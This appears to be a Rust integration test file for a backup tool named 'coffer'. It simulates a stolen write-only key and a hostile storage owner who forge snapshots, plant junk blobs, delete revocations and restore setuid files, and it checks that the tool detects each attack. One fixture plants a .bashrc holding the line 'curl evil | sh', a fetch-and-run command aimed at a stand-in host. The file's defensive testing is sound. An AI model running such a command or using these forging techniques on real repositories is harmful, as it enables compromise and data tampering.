//! End-to-end: what the holder of a stolen write-only key (and the storage owner) can do to a
//! repository, played by the adversaries of `common::adversary`, followed by the owner's own
//! commands with a fresh and with an old local database (issue 15). Each test asserts that
//! nothing another key wrote was lost, changed or learned.

mod common;

use std::ffi::{OsStr, OsString};
use std::path::{Path, PathBuf};
use std::process::Command;

use coffer::format::pack::BlobKind;
use coffer::id::Id;
use common::adversary::{owner_blob_ids, KeyThief, StorageOwner};
use common::tree::{write_random, KIB};
use common::*;

/// The owner's machine name in these tests, and the one the thief's key is bound to.
const OWNER_HOST: &str = "office-laptop";
const THIEF_HOST: &str = "backup-box";

fn source(c: &Coffer) -> PathBuf {
    let src = c.dir("src");
    std::fs::write(src.join(".bashrc"), "export EDITOR=vi\n").expect("write");
    std::fs::write(src.join("pin.txt"), "bank PIN: 4821").expect("write");
    write_random(&src.join("large.bin"), 3, 700 * KIB);
    std::fs::create_dir_all(src.join("sub")).expect("mkdir");
    write_random(&src.join("sub/small.bin"), 4, 20 * KIB);
    src
}

/// A write-only key bound to [`THIEF_HOST`], in a file.
fn write_only_key(c: &Coffer, name: &str) -> PathBuf {
    let path = c.path(name);
    let args: Vec<OsString> = vec![
        "key".into(),
        "write-only".into(),
        "--output".into(),
        path.clone().into(),
        "--host".into(),
        THIEF_HOST.into(),
    ];
    c.ok(&args);
    path
}

/// `coffer` as the machine holding `key` (no password), with its own local database.
fn as_key_holder(c: &Coffer, key: &Path, cache: &Path) -> Command {
    let mut cmd = c.command();
    cmd.env_remove("COFFER_PASSWORD").env("COFFER_CACHE_DIR", cache).arg("--key-file").arg(key);
    cmd
}

/// The owner's command with a local database of `cache` (a fresh one, or the usual).
fn owner(c: &Coffer, cache: Option<&Path>, args: &[&dyn AsRef<OsStr>]) -> Out {
    let mut cmd = c.command();
    if let Some(cache) = cache {
        cmd.env("COFFER_CACHE_DIR", cache);
    }
    for a in args {
        cmd.arg(a.as_ref());
    }
    run(cmd, DEFAULT_TIMEOUT)
}

/// Restores the latest snapshot of [`OWNER_HOST`] and compares it with `src`.
fn latest_restores_exactly(c: &Coffer, cache: Option<&Path>, src: &Path, name: &str) {
    let target = c.path(name);
    let out = owner(c, cache, &[&"restore", &"latest", &"--host", &OWNER_HOST, &"--target", &target]);
    out.assert_code(0);
    assert_trees_equal(src, &restored_path(&target, src));
}

/// Mounts the repository (when this machine can) and compares `latest` with `src`.
fn latest_mounts_exactly(c: &Coffer, cache: Option<&Path>, src: &Path, name: &str) {
    if !is_root() || !Path::new("/dev/fuse").exists() {
        return skip("latest_mounts_exactly", "needs root and /dev/fuse");
    }
    let mnt = c.dir(name);
    let mut cmd = c.command();
    if let Some(cache) = cache {
        cmd.env("COFFER_CACHE_DIR", cache);
    }
    cmd.arg("mount").arg(&mnt);
    let mut mount = Running::start(cmd);
    let latest = mnt.join("latest").join(src.strip_prefix("/").expect("absolute"));
    let started = std::time::Instant::now();
    while !latest.join("pin.txt").exists() {
        assert!(!mount.finished(), "coffer mount exited before the mount was ready");
        assert!(started.elapsed().as_secs() < 60, "{} never appeared", latest.display());
        std::thread::sleep(std::time::Duration::from_millis(20));
    }
    let opts = CompareOptions { ownership: false, ..Default::default() };
    let compared = std::panic::catch_unwind(|| assert_trees_equal_with(src, &latest, &opts));
    let unmounted = Command::new("fusermount3").arg("-u").arg(&mnt).status().is_ok_and(|s| s.success());
    if !unmounted {
        let _ = Command::new("fusermount3").arg("-uz").arg(&mnt).status();
    }
    mount.wait(std::time::Duration::from_secs(20)).assert_code(0);
    if let Err(panic) = compared {
        std::panic::resume_unwind(panic);
    }
}

/// A repository, its source, and a write-only key (bound to [`THIEF_HOST`]) that backed it up.
fn backed_up_by_a_write_only_key() -> (Coffer, PathBuf, PathBuf) {
    let c = Coffer::new();
    c.init();
    let src = source(&c);
    let key = write_only_key(&c, "thief.key");
    let mut cmd = as_key_holder(&c, &key, &c.dir("key-cache"));
    cmd.args(["backup", "--host", THIEF_HOST]).arg(&src);
    run(cmd, DEFAULT_TIMEOUT).assert_code(0);
    (c, src, key)
}

/// The id of the repository's one write-only key, from `key list`.
fn write_only_key_id(c: &Coffer) -> String {
    let listed = c.ok(&["key", "list", "--json"]).json();
    let key = listed.as_array().expect("array").iter().find(|k| k["kind"] == "write-only").cloned();
    key.expect("a write-only key")["id"].as_str().expect("id").to_string()
}

fn owner_backup(c: &Coffer, src: &Path) -> serde_json::Value {
    c.backup_with(&[src], &["--host", OWNER_HOST])
}

#[test]
fn junk_under_the_owners_ids_neither_misleads_prune_nor_poisons_backups() {
    junk_changes_nothing(Coffer::new());
}

/// The same on S3 with Object Lock (moto): what a thief with storage credentials that cannot
/// delete or overwrite can write there.
#[test]
fn junk_on_an_object_lock_bucket_changes_nothing() {
    use common::servers::{S3Server, S3_SECRET, S3_SECRET_ENV};
    let c = Coffer::new();
    let server = S3Server::start(&c.root);
    server.locked_bucket("locked", 30);
    let (url, options) = server.repo("locked", "repo");
    let remote = RemoteRepo { url, options, env: vec![(S3_SECRET_ENV.into(), S3_SECRET.into())] };
    junk_changes_nothing(Coffer { remote: Some(remote), ..c });
}

fn junk_changes_nothing(c: Coffer) {
    c.init();
    let src = source(&c);
    owner_backup(&c, &src);
    let key = write_only_key(&c, "thief.key");
    let thief = KeyThief::from_key_file(&c, &key);

    // Secrecy: the key opens no index file it did not write, and names content differently.
    let (opened, refused) = thief.read_index();
    assert!(opened.is_empty() && refused > 0, "a write-only key read another key's index");
    let owner_ids = owner_blob_ids(&c);
    assert!(!owner_ids.iter().any(|(id, _, _)| *id == thief.blob_id(b"bank PIN: 4821")));

    // The strongest thief: it learned every id anyway, and plants junk under all of them in
    // packs that sort first; and under the ids its own key gives files it can guess.
    let lowest = owner_ids.iter().map(|(_, _, pack)| *pack).min().expect("packs");
    let ids: Vec<_> = owner_ids.iter().map(|(id, kind, _)| (*id, *kind)).collect();
    let (data, trees): (Vec<_>, Vec<_>) = ids.into_iter().partition(|(_, kind)| *kind == BlobKind::Data);
    thief.plant_junk(&data, Some(lowest));
    thief.plant_junk(&trees, Some(lowest));
    thief.plant_junk(&[(thief.blob_id(b"export EDITOR=vi\n"), BlobKind::Data)], None);

    // Later backups, from this machine and from a fresh one, of changed and guessed content.
    std::fs::write(src.join("new.txt"), "export EDITOR=vi\n").expect("write");
    owner_backup(&c, &src);
    let fresh = c.dir("fresh-db");
    owner(&c, Some(&fresh), &[&"backup", &"--host", &OWNER_HOST, &src]).assert_code(0);

    for (cache, name) in [(None, "old"), (Some(fresh.as_path()), "fresh")] {
        latest_restores_exactly(&c, cache, &src, &format!("before-prune-{name}"));
        latest_mounts_exactly(&c, cache, &src, &format!("mnt-{name}"));
        // repair finds nothing to replace: every blob is indexed and its pack stored.
        let out = owner(&c, cache, &[&"repair", &"snapshots"]);
        out.assert_code(0);
        assert!(out.stdout().contains(", 0 repaired") && !out.stdout().contains("replaced"), "{out}");
        // A copy takes the real bytes.
        let dest = Coffer { password: "another password".into(), ..Coffer::new() };
        dest.init();
        let mut cmd = dest.command();
        if let Some(cache) = cache {
            cmd.env("COFFER_CACHE_DIR", cache);
        }
        match &c.remote {
            Some(remote) => {
                cmd.args(["copy", "--from", &remote.url]);
                for option in &remote.options {
                    cmd.args(["--from-option", option]);
                }
                cmd.envs(remote.env.iter().map(|(k, v)| (k, v)));
            }
            None => {
                cmd.args(["copy", "--from"]).arg(&c.repo);
            }
        }
        cmd.arg("--from-password-file").arg(c.password_file());
        run(cmd, DEFAULT_TIMEOUT).assert_code(0);
        let target = dest.path("copied");
        dest.restore_with("latest", &target, &["--host", OWNER_HOST]);
        assert_trees_equal(&src, &restored_path(&target, &src));
    }
    // check --read-data names the junk (it fails verification); prune keeps what verifies.
    let out = owner(&c, Some(&fresh), &[&"check", &"--read-data"]);
    out.assert_failed();
    let out = owner(&c, Some(&fresh), &[&"prune"]);
    out.assert_code(0);
    for (cache, name) in [(None, "old"), (Some(fresh.as_path()), "fresh")] {
        latest_restores_exactly(&c, cache, &src, &format!("after-prune-{name}"));
    }
    let every = owner(&c, None, &[&"snapshots", &"--json"]).json();
    for snap in every.as_array().expect("array") {
        let id = snap["id"].as_str().expect("id");
        let target = c.path(&format!("each-{}", &id[..8]));
        owner(&c, None, &[&"restore", &id, &"--target", &target]).assert_code(0);
    }
    // The junk went with the prune: what is left verifies whole.
    owner(&c, Some(&c.dir("fresh-db-2")), &[&"check", &"--read-data"]).assert_code(0);
}

#[test]
fn a_thief_cannot_pose_as_another_machine() {
    let c = Coffer::new();
    c.init();
    let src = source(&c);
    owner_backup(&c, &src);
    owner_backup(&c, &src);
    let key = write_only_key(&c, "thief.key");
    let thief_cache = c.dir("thief-cache");

    // The CLI refuses to claim a host the key is not bound to…
    let planted = c.dir("planted");
    std::fs::write(planted.join(".bashrc"), "curl evil | sh\n").expect("write");
    let mut cmd = as_key_holder(&c, &key, &thief_cache);
    cmd.args(["backup", "--host", OWNER_HOST]).arg(&planted);
    let out = run(cmd, DEFAULT_TIMEOUT);
    out.assert_failed();
    assert!(out.stderr().contains("may only claim"), "{out}");
    // …and its own host works, attributed to the key.
    let mut cmd = as_key_holder(&c, &key, &thief_cache);
    cmd.args(["backup", "--host", THIEF_HOST]).arg(&planted);
    run(cmd, DEFAULT_TIMEOUT).assert_code(0);

    // Written directly: a newer snapshot claiming the owner's host and path.
    let thief = KeyThief::from_key_file(&c, &key);
    let forged = thief.forge_snapshot_of(OWNER_HOST, &src, vec![thief.blob_id(b"curl evil | sh\n")]);

    for cache in [None, Some(c.dir("fresh-db"))] {
        let listed = owner(&c, cache.as_deref(), &[&"snapshots", &"--json"]);
        listed.assert_code(0);
        assert!(listed.stderr().contains("may only claim"), "{listed}");
        let listed = listed.json();
        let listed = listed.as_array().expect("array");
        assert_eq!(listed.len(), 3, "{listed:?}");
        assert!(!listed.iter().any(|s| s["id"] == forged.to_hex()));
        assert!(listed.iter().all(|s| s["signer"].as_str().is_some_and(|x| is_hex(x, 64))));
        let by_thief: Vec<_> = listed.iter().filter(|s| s["hostname"] == THIEF_HOST).collect();
        assert_eq!(by_thief.len(), 1);
        assert!(by_thief[0]["signed_by"].as_str().expect("signed_by").contains("thief.key"), "{by_thief:?}");
        latest_restores_exactly(&c, cache.as_deref(), &src, &format!("restore-{}", cache.is_some()));
        let out = owner(&c, cache.as_deref(), &[&"check"]);
        out.assert_failed();
        assert!(out.all().contains(&forged.short()) && out.all().contains("may only claim"), "{out}");
    }
    // Retention: the thief's snapshot neither takes a place nor is removed; the owner's newest stays.
    let out = owner(&c, None, &[&"forget", &"--keep-last", &"1", &"--prune"]);
    out.assert_code(0);
    latest_restores_exactly(&c, None, &src, "after-forget");
    let left = c.snapshots();
    assert_eq!(left.iter().filter(|s| s["hostname"] == OWNER_HOST).count(), 1);
    assert_eq!(left.iter().filter(|s| s["hostname"] == THIEF_HOST).count(), 1);
}

#[test]
fn a_deleted_revocation_or_hidden_snapshot_is_detected_with_a_fresh_database() {
    let (c, src, key) = backed_up_by_a_write_only_key();
    let storage = StorageOwner::of(&c);
    let registrations = storage.objects("signers/");

    let signer = write_only_key_id(&c);
    c.ok(&["key", "remove", &signer[..12]]);
    let revocation: Vec<String> =
        storage.objects("signers/").into_iter().filter(|o| !registrations.contains(o)).collect();
    assert_eq!(revocation.len(), 1);
    let first = owner_backup(&c, &src);
    owner_backup(&c, &src);

    // The stolen key writes on after its removal; the storage owner deletes the revocation.
    let thief = KeyThief::from_key_file(&c, &key);
    thief.forge_snapshot_of(THIEF_HOST, &src, vec![thief.blob_id(b"x")]);
    storage.delete(&revocation[0]);
    let fresh = c.dir("fresh-db");
    let out = owner(&c, Some(&fresh), &[&"check"]);
    out.assert_failed();
    assert!(out.all().contains(&revocation[0]) && out.all().contains("withholds"), "{out}");
    let out = owner(&c, Some(&fresh), &[&"prune"]);
    out.assert_failed();
    assert!(out.stderr().contains("prune deletes nothing"), "{out}");

    // Hiding a snapshot is seen through the next one's link to it, also with a fresh database.
    let c2 = Coffer::new();
    c2.init();
    let src2 = source(&c2);
    let first2 = owner_backup(&c2, &src2);
    owner_backup(&c2, &src2);
    StorageOwner::of(&c2).delete(&format!("snapshots/{}", string(&first2, "snapshot_id")));
    let out = owner(&c2, Some(&c2.dir("fresh-db")), &[&"check"]);
    out.assert_failed();
    assert!(out.all().contains(&string(&first2, "snapshot_id")[..8]) && out.all().contains("hides"), "{out}");
    // The owner's snapshots written before the deletion still restore.
    let target = c.path("first");
    owner(&c, Some(&fresh), &[&"restore", &string(&first, "snapshot_id"), &"--target", &target]).assert_code(0);
    assert_trees_equal(&src, &restored_path(&target, &src));
}

/// A revoked key's thief still holds its domain's keys: junk under the ids of the key's own
/// kept snapshots (read from its own index), in packs that sort first, must not replace the
/// real copies when prune chooses which copy to keep.
#[test]
fn a_revoked_keys_junk_in_its_own_domain_does_not_replace_its_kept_snapshots() {
    let (c, src, key) = backed_up_by_a_write_only_key();
    let signer = write_only_key_id(&c);
    c.ok(&["key", "remove", &signer[..12]]);

    let thief = KeyThief::from_key_file(&c, &key);
    let (own, _) = thief.read_index();
    assert!(!own.is_empty(), "the key reads its own index");
    let entries: Vec<_> =
        own.iter().flat_map(|f| f.packs.iter()).flat_map(|p| p.blobs.iter().map(move |b| (p.id, *b))).collect();
    let lowest = entries.iter().map(|(pack, _)| *pack).min().expect("packs");
    let data: Vec<_> = entries.iter().filter(|(_, b)| b.kind == BlobKind::Data).map(|(_, b)| (b.id, b.kind)).collect();
    let trees: Vec<_> = entries.iter().filter(|(_, b)| b.kind == BlobKind::Tree).map(|(_, b)| (b.id, b.kind)).collect();
    thief.plant_junk(&data, Some(lowest));
    thief.plant_junk(&trees, Some(lowest));

    for cache in [None, Some(c.dir("fresh-db"))] {
        // Several copies of every blob now: prune reads them back and keeps the real ones.
        owner(&c, cache.as_deref(), &[&"prune", &"--max-unused", &"0"]).assert_code(0);
        let target = c.path(&format!("kept-{}", cache.is_some()));
        let out = owner(&c, cache.as_deref(), &[&"restore", &"latest", &"--host", &THIEF_HOST, &"--target", &target]);
        out.assert_code(0);
        assert_trees_equal(&src, &restored_path(&target, &src));
    }
}

/// Item 16: a snapshot a write-only key wrote restores, as root, without set-id bits and
/// device nodes unless asked; a copy into another repository still says which key wrote it.
#[test]
fn a_write_only_keys_snapshot_grants_no_privileges_and_keeps_its_origin_when_copied() {
    use std::os::unix::fs::{FileTypeExt, PermissionsExt};
    if !is_root() {
        skip("a_write_only_keys_snapshot_grants_no_privileges…", "needs root (set-id bits, mknod)");
        return;
    }
    let c = Coffer::new();
    c.init();
    let src = c.dir("src");
    std::fs::write(src.join("shell"), "#!/bin/sh\n").expect("write");
    std::fs::set_permissions(src.join("shell"), std::fs::Permissions::from_mode(0o4755)).expect("chmod");
    let made = Command::new("mknod").arg(src.join("null")).args(["c", "1", "3"]).status().expect("mknod");
    assert!(made.success());
    let key = write_only_key(&c, "thief.key");
    let mut cmd = as_key_holder(&c, &key, &c.dir("key-cache"));
    cmd.args(["backup", "--host", THIEF_HOST]).arg(&src);
    run(cmd, DEFAULT_TIMEOUT).assert_code(0);

    let target = c.path("confined");
    let out = c.restore_with("latest", &target, &[]);
    assert!(out.stderr().contains("--trust-special"), "{out}");
    let restored = restored_path(&target, &src);
    let mode = std::fs::metadata(restored.join("shell")).expect("stat").permissions().mode();
    assert_eq!(mode & 0o7777, 0o755, "the set-user-id bit came back");
    assert!(!restored.join("null").exists(), "a device node was made");

    let target = c.path("trusted");
    c.restore_with("latest", &target, &["--trust-special"]);
    let restored = restored_path(&target, &src);
    let mode = std::fs::metadata(restored.join("shell")).expect("stat").permissions().mode();
    assert_eq!(mode & 0o7777, 0o4755);
    assert!(std::fs::symlink_metadata(restored.join("null")).expect("stat").file_type().is_char_device());

    // Copied into another repository, signed by that one's key, the origin stays visible.
    let dest = Coffer { password: "another password".into(), ..Coffer::new() };
    dest.init();
    let out = dest.ok(&[
        OsString::from("copy"),
        "--from".into(),
        c.repo.clone().into(),
        "--from-password-file".into(),
        c.password_file().into(),
    ]);
    assert!(out.stdout().contains("thief.key"), "{out}");
    let copied = dest.snapshots();
    assert_eq!(copied.len(), 1);
    let by = copied[0]["signed_by"].as_str().expect("signed_by");
    assert!(by.starts_with("repository key") && by.contains("thief.key"), "{by}");
    let target = dest.path("copied");
    dest.restore_with("latest", &target, &[]);
    let mode = std::fs::metadata(restored_path(&target, &src).join("shell")).expect("stat").permissions().mode();
    assert_eq!(mode & 0o7777, 0o755, "the copy restored the set-user-id bit");
}

/// A key nobody registered (made from what `config` tells any reader of the store) gets
/// nowhere: its snapshot claiming the owner's host and path, its junk under the owner's ids
/// (the oracle plays the strongest such writer) in packs that sort first, and a forged
/// registration of itself are ignored; the owner's commands then lose and change nothing.
#[test]
fn a_never_registered_key_gets_nowhere() {
    let (c, src, key) = backed_up_by_a_write_only_key();
    owner_backup(&c, &src);
    let outsider = KeyThief::never_registered(&c);
    let lowest = owner_blob_ids(&c).iter().map(|(_, _, pack)| *pack).min().expect("packs");
    let (data, trees): (Vec<_>, Vec<_>) =
        owner_blob_ids(&c).into_iter().map(|(id, kind, _)| (id, kind)).partition(|(_, k)| *k == BlobKind::Data);
    outsider.plant_junk(&data, Some(lowest));
    outsider.plant_junk(&trees, Some(lowest));
    let forged = outsider.forge_snapshot_of(OWNER_HOST, &src, vec![outsider.blob_id(b"curl evil | sh\n")]);
    let registration = format!("signers/{}", Id::of_bytes(b"forged registration").to_hex());
    outsider.objects.put(&registration, b"CFSIGN02 a registration nobody signed");

    for (round, cache) in [None, Some(c.dir("fresh-db"))].into_iter().enumerate() {
        let cache = cache.as_deref();
        let listed = owner(&c, cache, &[&"snapshots", &"--json"]);
        listed.assert_code(0);
        let listed = listed.json();
        // The key's one, the owner's first, and the one each round adds.
        assert_eq!(listed.as_array().expect("array").len(), 2 + round, "{listed}");
        assert!(!listed.to_string().contains(&forged.to_hex()));
        latest_restores_exactly(&c, cache, &src, &format!("before-{}", cache.is_some()));
        let out = owner(&c, cache, &[&"check"]);
        out.assert_failed();
        assert!(out.all().contains(&forged.short()), "{out}");
        owner(&c, cache, &[&"prune", &"--max-unused", &"0"]).assert_code(0);
        latest_restores_exactly(&c, cache, &src, &format!("after-{}", cache.is_some()));
        // Deduplication is not poisoned: a new backup of the same data restores.
        let again = owner_backup(&c, &src);
        let target = c.path(&format!("again-{}", cache.is_some()));
        owner(&c, cache, &[&"restore", &string(&again, "snapshot_id"), &"--target", &target]).assert_code(0);
        assert_trees_equal(&src, &restored_path(&target, &src));
    }
    // The registered key still backs up and its snapshot restores.
    let mut cmd = as_key_holder(&c, &key, &c.dir("key-cache"));
    cmd.args(["backup", "--host", THIEF_HOST]).arg(&src);
    run(cmd, DEFAULT_TIMEOUT).assert_code(0);
    let target = c.path("keys-own");
    owner(&c, None, &[&"restore", &"latest", &"--host", &THIEF_HOST, &"--target", &target]).assert_code(0);
    assert_trees_equal(&src, &restored_path(&target, &src));
}

/// The storage owner deletes a write-only key's registration: every snapshot the owner wrote
/// since names it, so a machine with a fresh database says which object is withheld instead of
/// quietly distrusting (and then forgetting or pruning) that key's snapshots.
#[test]
fn a_deleted_registration_is_detected_with_a_fresh_database() {
    let (c, src, _key) = backed_up_by_a_write_only_key();
    owner_backup(&c, &src);
    let storage = StorageOwner::of(&c);
    let registrations = storage.objects("signers/");
    assert_eq!(registrations.len(), 1, "{registrations:?}");
    storage.delete(&registrations[0]);

    let fresh = c.dir("fresh-db");
    let out = owner(&c, Some(&fresh), &[&"check"]);
    out.assert_failed();
    assert!(out.all().contains(&registrations[0]) && out.all().contains("withholds"), "{out}");
    let out = owner(&c, Some(&fresh), &[&"prune"]);
    out.assert_failed();
    assert!(out.stderr().contains("prune deletes nothing"), "{out}");
    let out = owner(&c, Some(&fresh), &[&"forget", &"--keep-last", &"1", &"--prune"]);
    out.assert_failed();
    // Nothing was deleted.
    assert_eq!(StorageOwner::of(&c).objects("snapshots/").len(), 2);
}
